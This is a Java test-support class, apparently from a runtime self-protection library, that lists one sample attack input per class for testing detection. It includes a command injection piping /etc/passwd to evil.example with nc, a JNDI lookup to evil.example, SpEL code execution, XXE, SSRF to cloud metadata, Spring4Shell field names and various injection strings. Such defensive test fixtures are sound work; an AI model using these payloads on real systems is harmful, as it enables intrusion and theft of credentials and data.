package io.github.raspspring.ways;

import java.util.Map;
import java.util.TreeMap;

/**
 * One attack of each class: as a value, as a field beside the value, or as a header.
 */
final class Attacks {

	private Attacks() {
	}

	/**
	 * Return the attacks that a value can be.
	 */
	static Map<String, String> byClass() {
		Map<String, String> attacks = new TreeMap<>();
		attacks.put("sql-injection", "x' union select password from users where 'a'='a");
		attacks.put("command-injection", "x; cat /etc/passwd | nc evil.example 99");
		attacks.put("expression-injection", "${T(java.lang.Runtime).getRuntime().exec('id')}");
		attacks.put("cross-site-scripting", "<img src=x onerror=alert(1)>");
		attacks.put("path-traversal", "../../../../etc/passwd");
		attacks.put("ssrf", "http://169.254.169.254/latest/meta-data/");
		attacks.put("jndi-injection", "${jndi:ldap://evil.example/a}");
		attacks.put("server-side-include", "<!--#exec cmd=\"cat /etc/passwd\" -->");
		attacks.put("nosql-injection", "' || this.password.match(/^a/) || 'a'=='b");
		attacks.put("ldap-injection", "*)(uid=*))(|(uid=*");
		attacks.put("xpath-injection", "x'] | //user/password | //x['a'='a");
		attacks.put("deserialization",
				"rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgCAANbAAVp"
						+ "QXJnc3QAE1tMamF2YS9sYW5nL09iamVjdDs=");
		attacks.put("xml-external-entity", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>");
		attacks.put("header-injection", "a\r\nSet-Cookie: session=1");
		return attacks;
	}

	/**
	 * Return the attacks by class that depend on the name of a field.
	 */
	static Map<String, Map.Entry<String, String>> besideByClass() {
		String deep = "{a".repeat(40) + "}".repeat(40);
		return Map.of("class-access", Map.entry("class.module.classLoader.resources.context.parent.x", "1"),
				"graphql-limits", Map.entry("query", deep));
	}

	/**
	 * Return what the headers of a request say, by class.
	 */
	static Map<String, Map.Entry<String, String>> headersByClass() {
		return Map.of("protocol", Map.entry("Content-Type", "text/plain;charset=IBM037"), "scanner-client",
				Map.entry("User-Agent", "sqlmap/1.8"));
	}

}
